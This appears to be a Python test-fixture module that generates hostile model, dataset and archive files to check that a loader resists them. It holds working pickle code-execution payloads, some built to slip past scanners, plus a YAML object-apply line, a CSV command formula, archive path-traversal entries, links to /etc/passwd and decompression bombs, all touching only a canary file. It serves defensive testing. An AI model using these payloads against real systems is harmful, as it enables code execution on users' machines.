"""Files that a stranger might send in the place of a model, of clips or of a table. Made by the tests; none is kept.

Those that hold code would leave a file in the folder of canaries if anybody ran it, and say `CANARY` wherever it shows.
"""

from __future__ import annotations

import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from importlib.util import MAGIC_NUMBER
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import torch

CANARY = "hostile_canary"
Hostile = Callable[[Path], object]
"""Puts something at a path."""
BOMB = 100 * 2**20
"""Bytes that a small file would become."""


class _Reduced:
    """Pickles as a call."""

    def __init__(self, call: Callable[..., object], *arguments: object) -> None:
        self.how = (call, arguments)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.how


def zoo(canaries: Path, weights: Path) -> dict[str, Hostile]:
    """Every hostile file by its name.

    canaries: folder in which a file appears for each payload that ran. weights: those of an honest model.
    """
    made = {name: _writes(content) for name, content in _contents(canaries, weights.read_bytes()).items()}
    return {
        **made,
        "symlink out of the folder": lambda path: path.symlink_to(weights),
        "symlink to itself": lambda path: path.symlink_to(path),
        "symlink to /dev/zero": lambda path: path.symlink_to("/dev/zero"),
        "pipe": os.mkfifo,
        "folder": Path.mkdir,
    }


def _writes(content: bytes) -> Hostile:
    return lambda path: path.write_bytes(content)


def _contents(canaries: Path, weights: bytes) -> dict[str, bytes]:
    code, call = _code(canaries), pickle_of(canaries)
    found = {
        **pickles(canaries),
        **_torch_files(canaries),
        **_arrays(canaries),
        **_weights(weights, call("behind")),
        "code object": marshal.dumps(compile(code("marshal"), CANARY, "exec")),
        "pyc": MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(code("pyc"), CANARY, "exec")),
        "Python source": code("source").encode(),
        "YAML": f"!!python/object/apply:os.system ['touch {canaries}/yaml; : {CANARY}']\n".encode(),
        "JSON class": json.dumps({"__class__": "os.system", "py/reduce": ["os.system", code("json")]}).encode(),
        "JSON deep": b"[" * 100_000,
        "JSON deep and whole": b"[" * 500 + b"]" * 500,
        "JSON wide": b"[" + b'{"":{}},' * 2_000_000 + b"0]",
        "JSON row": b'{"step": 1, "loss": "x", "kl": {"a": 1}}\n',
        "JSON twice": b'{"format": 2, "format": 2}',
        "JSON digits": b'{"format": ' + b"9" * 5000 + b"}",
        "JSON infinity": b'{"format": 1e999, "step": NaN}',
        "JSON surrogate": b'{"format": 2, "model": "\\ud800"}',
        "JSON escape": b'{"format": 2, "model": "\\u001b[2J\\u001b]0;owned\\u0007"}',
        "CSV formula": f"=cmd|' /C touch {canaries}/csv'!A0,@SUM(1+1)*{CANARY}\n1,2\n".encode(),
        "XML bomb": _entities(),
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64),
        "GGUF": b"GGUF" + struct.pack("<IQQ", 3, 2**63, 2**63) + bytes(64),
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(64),
        "TFRecord": struct.pack("<QI", 2**63, 0) + bytes(64),
        "gzip bomb": gzip.compress(bytes(BOMB // 50)) * 50,
        "xz bomb": lzma.compress(bytes(BOMB // 50)) * 50,
        "tar ../": _tar(canaries),
        "zip ../": _zip({f"../../../../../../../..{canaries}/zip": b"out"}),
        "parquet": _parquet(call("parquet")),
        "HDF5": _hdf5(canaries, call("hdf5")),
        "MP4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + struct.pack(">I4sQ", 1, b"moov", 2**62) + call("mp4"),
        "AVI": b"RIFF" + struct.pack("<I", 2**32 - 1) + b"AVI LIST" + struct.pack("<I", 2**31) + b"hdrl" + call("avi"),
        "PNG bomb": _png(2**31 - 1, 2**31 - 1, bytes(100)),
        "PNG and zip": _png(1, 1, bytes(4)) + _zip({"data.pkl": call("png")}),
        "zeros": bytes(4096),
        "nothing": b"",
        "text": b"\xff\xfe not a file of this kind \x00\n",
    }  # fmt: skip
    return found


def _code(canaries: Path) -> Callable[[str], str]:
    return lambda name: f"open({str(canaries / name)!r}, 'w').close()  # {CANARY}"


def pickle_of(canaries: Path) -> Callable[[str], bytes]:
    """A plain pickle that leaves the canary of this name."""
    return lambda name: pickle.dumps(_Reduced(os.system, f"touch '{canaries / name}'; : {CANARY}"))


def pickles(canaries: Path) -> dict[str, bytes]:
    """Pickles that each leave a canary, by ways that scanners know and by some that they overlook."""
    code = _code(canaries)

    def touch(name: str) -> str:
        return f"touch '{canaries / name}'; : {CANARY}"

    def short(text: str) -> bytes:
        return b"\x8c" + bytes([len(text)]) + text.encode()

    def long(text: str) -> bytes:
        return b"X" + struct.pack("<I", len(text)) + text.encode()

    system = pickle.dumps(_Reduced(os.system, touch("inner")))
    # builtins.getattr(builtins.__import__("os"), "sys" + "tem") without any name that a scanner looks for in one piece.
    pieces = (
        b"\x80\x04" + short("builtins") + short("getattr") + b"\x93\x94"
        + short("builtins") + short("__import__") + b"\x93" + short("os") + b"\x85R"
        + short("system") + b"\x86R" + long(touch("pieces")) + b"\x85R."
    )  # fmt: skip
    return {
        "pickle of os.system": pickle.dumps(_Reduced(os.system, touch("system"))),
        "pickle of exec": pickle.dumps(_Reduced(exec, code("exec"))),
        "pickle of eval": pickle.dumps(_Reduced(eval, code("eval"))),
        "pickle of __import__": pickle.dumps(_Reduced(__import__, CANARY)),
        "pickle in pieces": pieces,
        "pickle in a pickle": pickle.dumps(_Reduced(pickle.loads, system)),
        "pickle, protocol 0": f"cos\nsystem\n(S\"{touch('zero')}\"\ntR.".encode(),
        "pickle, INST": f"(S\"{touch('inst')}\"\nios\nsystem\n.".encode(),
        "pickle, OBJ": b"(" + b"cos\nsystem\n" + long(touch("obj")) + b"o.",
        "pickle, BUILD": (
            b"\x80\x04" + short("types") + short("SimpleNamespace") + b"\x93)R}" + short("__setstate__")
            + short("os") + short("system") + b"\x93sb" + long(touch("build")) + b"b."
        ),
        "pickle, giant memo": b"\x80\x04]r" + struct.pack("<I", 2**31) + system[2:],
        "pickle, giant string": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b"x.",
        "gzip of a pickle": gzip.compress(pickle.dumps(_Reduced(os.system, touch("gzip")))),
    }  # fmt: skip


def _torch_files(canaries: Path) -> dict[str, bytes]:
    call = pickle_of(canaries)

    def saved(value: object, **options: Any) -> bytes:
        target = io.BytesIO()
        torch.save(value, target, **options)
        return target.getvalue()

    payload = _Reduced(os.system, f"touch '{canaries / 'torch'}'; : {CANARY}")
    script = {
        "code/__torch__.py": _code(canaries)("script").encode(),
        "constants.pkl": call("constants"),
        "version": b"3",
    }
    legacy = _tar_of(
        {"sys_info": call("sys_info"), "pickle": call("legacy"), "storages": call("storages"), "tensors": b""}
    )
    return {
        "torch.save": saved({"state_dict": payload}),
        "torch.save before 1.6": saved({"state_dict": payload}, _use_new_zipfile_serialization=False),
        "torch tar": legacy,
        "torch stride 0": saved({"weights": torch.zeros(1).expand(10**9)}),
        "TorchScript": _zip({"archive/data.pkl": call("jit"), **script}),
        "pt2": _zip({"model/archive_format": b"pt2", "model/data/weights/0": call("pt2")}),
        "zip bomb": _zip({"archive/data.pkl": bytes(BOMB), "archive/version": b"3"}, zipfile.ZIP_DEFLATED),
    }  # fmt: skip


def _arrays(canaries: Path) -> dict[str, bytes]:
    payload = np.array([_Reduced(os.system, f"touch '{canaries / 'npy'}'; : {CANARY}")], object)
    one, several = io.BytesIO(), io.BytesIO()
    np.save(one, payload, allow_pickle=True)
    np.savez(several, allow_pickle=True, image=payload, action=payload, is_first=payload)
    called = f"{{'descr': __import__('os').system('touch {canaries}/header; : {CANARY}'), 'shape': (1,)}}"
    giant = "{'descr': '|u1', 'fortran_order': False, 'shape': (999999999, 999999, 64, 3), }"
    return {
        "npy of objects": one.getvalue(),
        "npz of objects": several.getvalue(),
        "npy with a call": _npy(called),
        "npy that is giant": _npy(giant),
        "npz bomb": _zip(
            {"image.npy": _npy(f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({BOMB},), }}") + bytes(BOMB)},
            zipfile.ZIP_DEFLATED,
        ),
    }


def _npy(header: str) -> bytes:
    text = header.encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def _headed(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + body


def _weights(whole: bytes, tail: bytes) -> dict[str, bytes]:
    """A safetensors file of an honest model with one thing wrong in each."""
    length = int.from_bytes(whole[:8], "little")
    header, body = whole[8 : 8 + length], whole[8 + length :]
    entries = json.loads(header)
    last = max(entries, key=lambda name: entries[name]["data_offsets"][1])
    first = min(entries, key=lambda name: entries[name]["data_offsets"][0])
    begin, end = entries[last]["data_offsets"]
    many = b",".join(b'"%d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}' % number for number in range(300_000))

    def entry(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, object]:
        return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}

    def made(changes: Mapping[str, object], body: bytes = body, without: str = "") -> bytes:
        kept = {name: value for name, value in entries.items() if name != without}
        return _headed(json.dumps({**kept, **changes}).encode(), body)

    shape = entries[last]["shape"]
    half, empty = (begin + end) // 2, entry("F32", [0], end, end)
    return {
        "safetensors, length 2**63": struct.pack("<Q", 2**63) + whole[8:],
        "safetensors, length 100 MB": struct.pack("<Q", 99_999_999) + whole[8:],
        "safetensors, giant header": _headed(b"{" + many + b"}"),
        "safetensors, header of blanks": _headed(header + b" " * (20 * 2**20), body),
        "safetensors, overlap": made({last: entry("F32", shape, begin - 4, end - 4)}),
        "safetensors, beyond the end": made({last: entry("F32", shape, begin + 2**32, end + 2**32)}),
        "safetensors, giant shape": made({last: entry("F32", [2**40, 2**40], begin, end)}),
        "safetensors, large shape": made({last: entry("F32", [2**31], begin, begin + 2**33)}),
        "safetensors, negative": made({last: entry("F32", [-1], begin, end)}),
        "safetensors, other type": made({last: entry("F16", shape, begin, half)}, body[: len(body) - (end - half)]),
        "safetensors, other shape": made({last: entry("F32", [1, *shape], begin, end)}),
        "safetensors, NaN": _headed(header, body[:begin] + b"\xff\xff\xff\x7f" * ((end - begin) // 4)),
        "safetensors, missing": made({}, body[:begin], last),
        "safetensors, extra": made({"__reduce__": empty}),
        "safetensors, name twice": _headed(b"{" + json.dumps({first: empty}).encode()[1:-1] + b"," + header[1:], body),
        "safetensors, cut short": whole[: len(whole) // 2],
        "safetensors and pickle": whole + tail,
        "safetensors, metadata": made({"__metadata__": {"__class__": {"os.system": CANARY}}}),
    }


def _zip(members: Mapping[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", how, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def _tar_of(members: Mapping[str, bytes]) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return target.getvalue()


def _tar(canaries: Path) -> bytes:
    return _tar_of({f"../../../../../../../..{canaries}/tar": b"out", f"{canaries}/tar": b"out"})


def _parquet(payload: bytes) -> bytes:
    """A table whose metadata and binary column hold a pickle, as pandas and others have written them."""
    schema = pa.schema([("action", pa.binary())], metadata={b"pandas": payload, b"ARROW:schema": payload})
    target = io.BytesIO()
    pq.write_table(pa.table({"action": [payload] * 12}, schema), target)
    return target.getvalue()


def _hdf5(canaries: Path, payload: bytes) -> bytes:
    """Demonstrations and films whose arrays are pickles, links out of the file, and data kept in another file."""
    target = io.BytesIO()
    with h5py.File(target, "w") as file:
        for group in ("data/demo_0", "env", "policy"):
            file.create_group(group)
        file["data/demo_0/actions"] = np.void(payload)
        file["data/demo_0/obs/agentview_image"] = h5py.ExternalLink("/etc/passwd", "/")
        file["env/cam0_video"] = np.void(payload)
        file["policy/actions"] = h5py.SoftLink("/policy/actions")
        file.attrs["pickle"] = np.void(payload)
        file.create_dataset("env/state", (64,), "u1", external=[("/etc/hostname", 0, 64)])
    return target.getvalue()


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def _entities() -> bytes:
    lines = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(lines) + "]><x>&a9;</x>").encode()
